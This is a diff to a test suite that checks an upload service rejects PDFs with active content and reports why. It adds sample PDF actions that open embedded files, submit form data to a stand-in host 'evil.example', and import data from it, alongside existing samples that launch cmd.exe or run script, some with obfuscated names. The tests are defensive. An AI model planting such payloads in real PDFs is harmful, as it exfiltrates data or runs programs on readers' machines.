@@ -64,6 +64,9 @@ describe('a PDF that runs a script or starts a program is refused, and why is sa
     ['by starting another', pdfWith('<< /AA << /O << /S /Launch /F (cmd.exe) >> >> >>')],
     ['in a form of XML', pdfWith('<< /AcroForm << /NeedAppearances true/XFA [(template) 2 0 R] >> >>')],
     ['in a packed form of XML', pdfWith(packed('1 0 << /Fields [] /X#46A 2 0 R >>'))],
+    ['by opening what is packed inside', pdfWith('<< /OpenAction << /S /GoToE /T << /R /C /N (a) >> >> >>')],
+    ['by sending itself', pdfWith('<< /AA << /O << /S/SubmitForm/F (https://evil.example) >> >> >>')],
+    ['by fetching answers', pdfWith('<< /S /Import#44ata /F (//evil.example/a.fdf) >>')],
     ['with a medium', pdfWith('<< /S /Rendition /JS (app.alert(1)) >>')],
   ])('%s', async (_, bytes) => {
     const reply = await upload(admin, 'plan.pdf', bytes);
